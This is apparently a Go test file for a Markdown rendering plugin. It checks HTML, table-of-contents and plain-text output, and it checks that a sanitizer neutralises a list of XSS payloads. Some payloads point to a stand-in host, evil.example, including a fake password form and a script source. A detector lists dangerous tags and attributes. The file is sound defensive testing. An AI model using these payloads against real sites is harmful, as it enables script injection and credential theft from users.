package main

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/taskhost/taskhost/sdk/go/sdktest"
)

func run(tb testing.TB, f func() int32, source string, config ...string) string {
	tb.Helper()
	c := sdktest.Call{Input: []byte(source), Config: map[string]string{}}
	for _, kv := range config {
		k, v, _ := strings.Cut(kv, "=")
		c.Config[k] = v
	}
	r := sdktest.Run(c, f)
	if r.Code != 0 {
		tb.Fatalf("%.80q: code %d, %s", source, r.Code, r.Error)
	}
	return string(r.Output)
}

func TestHTML(t *testing.T) {
	for _, c := range []struct{ source, want string }{
		{"# Hi", `<h1 id="hi">Hi</h1>`},
		{"## Über Größe: 你好!\n## Über größe 你好", `<h2 id="über-größe-你好">Über Größe: 你好!</h2>` + "\n" + `<h2 id="über-größe-你好-1">Über größe 你好</h2>`},
		{"| a | b |\n|:-:|--|\n| 1 | ~~2~~ |", "<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n<th>b</th>\n</tr>\n</thead>\n" +
			"<tbody>\n<tr>\n<td align=\"center\">1</td>\n<td><del>2</del></td>\n</tr>\n</tbody>\n</table>"},
		{"- [x] done\n- [ ] open", "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n" +
			"<li><input disabled=\"\" type=\"checkbox\"> open</li>\n</ul>"},
		{"```go\na < b\n```", "<pre><code class=\"language-go\">a &lt; b\n</code></pre>"},
		{"see https://example.com.", `<p>see <a href="https://example.com" rel="nofollow">https://example.com</a>.</p>`},
		{"a[^1]\n\n[^1]: note", `<p>a<sup id="fnref:1"><a href="#fn:1" class="footnote-ref" role="doc-noteref" rel="nofollow">1</a></sup></p>` +
			"\n<div class=\"footnotes\" role=\"doc-endnotes\">\n<hr>\n<ol>\n<li id=\"fn:1\">\n" +
			`<p>note ` + `<a href="#fnref:1" class="footnote-backref" role="doc-backlink" rel="nofollow">↩︎</a></p>` + "\n</li>\n</ol>\n</div>"},
		{"---\ntitle: T\n---\ntext", "<p>text</p>"},
		{"---\n\ntext\n\n---", "<hr>\n<p>text</p>\n<hr>"},
		{"", ""},
	} {
		got := strings.ReplaceAll(strings.TrimSpace(run(t, process, c.source)), "\u00a0", " ")
		if got != c.want {
			t.Errorf("%q\n got %s\nwant %s", c.source, got, c.want)
		}
	}
	if got := run(t, process, "a\nb", "hard_wraps=true"); got != "<p>a<br>\nb</p>\n" {
		t.Errorf("hard wraps: %s", got)
	}
}

func TestStandalonePageEscapesItsTitle(t *testing.T) {
	page := run(t, process, "---\ntitle: \"A </title><script>alert(1)</script>\"\n---\n# Head\n", "standalone=true", `lang="><b>`)
	for _, want := range []string{"<!DOCTYPE html>", "<title>A &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
		`<html lang="&#34;&gt;&lt;b&gt;">`, `<h1 id="head">Head</h1>`} {
		if !strings.Contains(page, want) {
			t.Errorf("no %s in\n%s", want, page)
		}
	}
	if page := run(t, process, "text\n\n# First *head*", "standalone=true"); !strings.Contains(page, "<title>First head</title>") {
		t.Errorf("no title in\n%s", page)
	}
	if page := run(t, process, "# a", "standalone=true", "title=Given"); !strings.Contains(page, "<title>Given</title>") {
		t.Errorf("no title in\n%s", page)
	}
}

// attacks are ways to run a script or to show a form from within Markdown.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	"[x](  java\nscript:alert(1))",
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](javascript:alert(1))`,
	`![x](x" onerror="alert(1))`,
	`<javascript:alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<object data="x"></object><embed src="x">`,
	`<form action="https://evil.example"><input type=password name=p><button>Log in</button></form>`,
	`<input type="text" autofocus onfocus="alert(1)">`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<style>@import "https://evil.example";</style>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example">`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video><source onerror="alert(1)"></video>`,
	"```html\"><script>alert(1)</script>\nx\n```",
	"# <img src=x onerror=alert(1)>",
	"| <script>alert(1)</script> |\n|--|\n| <b onclick=alert(1)>x</b> |",
	"[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[><script>alert(1)</script>]]>`,
	`<a href="x" target=_blank class=btn>x</a>`,
	"<p id=\"__proto__\" onclick=\"x\">",
}

// harmless fails when HTML could do something. It parses it as a browser would, and looks at what is there.
func harmless(tb testing.TB, source, output string) {
	tb.Helper()
	root, err := html.Parse(strings.NewReader(output))
	if err != nil {
		tb.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "iframe", "object", "embed", "form", "button", "meta", "base", "link", "svg", "math", "video", "source", "textarea":
			tb.Errorf("%q: <%s> in %s", source, n.Data, output)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "target",
				strings.HasPrefix(value, "javascript:"), strings.HasPrefix(value, "vbscript:"), strings.HasPrefix(value, "data:"),
				n.Data == "input" && a.Key == "type" && a.Val != "checkbox":
				tb.Errorf("%q: %s=%q in %s", source, a.Key, a.Val, output)
			}
		}
	}
}

func TestAttacksAreHarmless(t *testing.T) {
	for _, source := range attacks {
		harmless(t, source, run(t, process, source))
		// What is inside other markup is no better.
		for _, around := range []string{"> %", "- %", "**%**", "<b>%</b>", "x % y", "<div>\n%\n</div>", "| a |\n|--|\n| % |"} {
			inside := strings.ReplaceAll(around, "%", source)
			harmless(t, inside, run(t, process, inside))
		}
		harmless(t, source, run(t, toc, "# "+source, "toc_format=html"))
	}
}

// specification is what goldmark carries: the examples of the CommonMark specification, and its own README.
func specification(tb testing.TB) (examples []struct{ Markdown, HTML string }, readme string) {
	tb.Helper()
	dir, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/yuin/goldmark").Output()
	if err != nil {
		tb.Fatal(err)
	}
	root := strings.TrimSpace(string(dir))
	b, err := os.ReadFile(filepath.Join(root, "_test", "spec.json"))
	if err != nil {
		tb.Fatal(err)
	}
	if err := json.Unmarshal(b, &examples); err != nil {
		tb.Fatal(err)
	}
	r, err := os.ReadFile(filepath.Join(root, "README.md"))
	if err != nil {
		tb.Fatal(err)
	}
	return examples, string(r)
}

func TestTheSpecificationsExamples(t *testing.T) {
	examples, _ := specification(t)
	if len(examples) < 600 {
		t.Fatalf("%d examples", len(examples))
	}
	// The words that a reader sees stay when the HTML of the specification is rendered by us, but for what GitHub's extensions and
	// the sanitizer change: few, and the number is known.
	const expected = 3 // an open <textarea>, and white space in text that looks like a link
	different := 0
	for _, e := range examples {
		got := run(t, process, e.Markdown)
		harmless(t, e.Markdown, got)
		if words(got) != words(e.HTML) {
			different++
			t.Logf("%q shows %q, in the specification %q", e.Markdown, words(got), words(e.HTML))
		}
	}
	if different != expected {
		t.Errorf("%d of %d examples show other words, expected %d", different, len(examples), expected)
	}
}

// words are the words that HTML shows.
func words(source string) string {
	root, err := html.Parse(strings.NewReader(source))
	if err != nil {
		return err.Error()
	}
	var b strings.Builder
	for n := range root.Descendants() {
		if n.Type == html.TextNode && n.Parent.Data != "script" && n.Parent.Data != "style" && n.Parent.Data != "textarea" {
			b.WriteString(n.Data + " ")
		}
	}
	return strings.Join(strings.Fields(b.String()), " ")
}

func TestContentsLeadToTheHeadings(t *testing.T) {
	_, readme := specification(t)
	page := run(t, process, readme)
	var headings []heading
	if err := json.Unmarshal([]byte(run(t, toc, readme, "toc_format=json", "toc_depth=6")), &headings); err != nil {
		t.Fatal(err)
	}
	if len(headings) < 20 {
		t.Fatalf("%d headings", len(headings))
	}
	for _, h := range headings {
		if !strings.Contains(page, `id="`+h.ID+`"`) {
			t.Errorf("no %s in the page", h.ID)
		}
	}
	const source = "# One\n### Two `code`\n## Three *[x]*\n# Four\n"
	if got, want := run(t, toc, source), "- [One](#one)\n  - [Two code](#two-code)\n  - [Three \\[x\\]](#three-x)\n- [Four](#four)\n"; got != want {
		t.Errorf("got %s\nwant %s", got, want)
	}
	const list = "<ul>\n<li><a href=\"#one\">One</a><ul>\n<li><a href=\"#two-code\">Two code</a></li>\n<li><a href=\"#three-x\">Three [x]</a></li>\n" +
		"</ul>\n</li>\n<li><a href=\"#four\">Four</a></li>\n</ul>\n"
	if got := run(t, toc, source, "toc_format=html"); got != list {
		t.Errorf("got %s\nwant %s", got, list)
	}
	if got := run(t, toc, source, "toc_depth=1"); got != "- [One](#one)\n- [Four](#four)\n" {
		t.Errorf("depth 1: %s", got)
	}
	if got := run(t, toc, "no headings", "toc_format=json"); got != "[]\n" {
		t.Errorf("no headings: %s", got)
	}
}

func TestPlainText(t *testing.T) {
	for _, c := range []struct{ source, want string }{
		{"# Head\n\nA *b* [c](http://x) `d`\nline <b>e</b>\n", "Head\n\nA b c d\nline e\n"},
		{"- one\n- two\n  - three\n\n1. a\n2. b", "- one\n- two\n  - three\n\n1. a\n2. b\n"},
		{"> quote\n\n```\ncode  *x*\n\nmore\n```\n\n---", "quote\n\ncode  *x*\n\nmore\n\n----\n"},
		{"| a | b |\n|--|--|\n| 1 | 2 |", "a\tb\n1\t2\n"},
		{"- [x] done", "- [x] done\n"},
		{`\*a\* &amp; \&lt; &copy; `, "*a* & &lt; ©\n"},
		{"`&amp; \\*`", "&amp; \\*\n"},
		{"<script>x</script>\n\ntext ![alt *text*](u) <https://x>", "text alt text https://x\n"},
		{"a[^1]\n\n[^1]: note", "a[1]\n\n[1] note\n"},
		{"", ""},
	} {
		if got := run(t, plain, c.source); got != c.want {
			t.Errorf("%q\n got %q\nwant %q", c.source, got, c.want)
		}
	}
}

func TestWhatCannotBeDoneIsInvalidAndSaysWhy(t *testing.T) {
	for _, c := range []struct {
		f                       func() int32
		source, key, value, why string
	}{
		{process, "ab\xff", "", "", "invalid UTF-8 at byte 2"},
		{process, "", "standalone", "perhaps", `config standalone: "perhaps" is neither true nor false`},
		{toc, "", "toc_format", "pdf", `config toc_format: "pdf"`},
		{toc, "", "toc_depth", "7", "config toc_depth"},
		{plain, "\xff", "", "", "invalid UTF-8 at byte 0"},
	} {
		r := sdktest.Run(sdktest.Call{Input: []byte(c.source), Config: map[string]string{c.key: c.value}}, c.f)
		if r.Code != 1 || !r.Invalid || !strings.Contains(r.Error, c.why) {
			t.Errorf("code %d, invalid %v, %q; want %q", r.Code, r.Invalid, r.Error, c.why)
		}
	}
}

func FuzzProcess(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, source string) {
		r := sdktest.Run(sdktest.Call{Input: []byte(source)}, process)
		if r.Code == 0 {
			harmless(t, source, string(r.Output))
		} else if !r.Invalid {
			t.Errorf("%q: %s", source, r.Error)
		}
	})
}
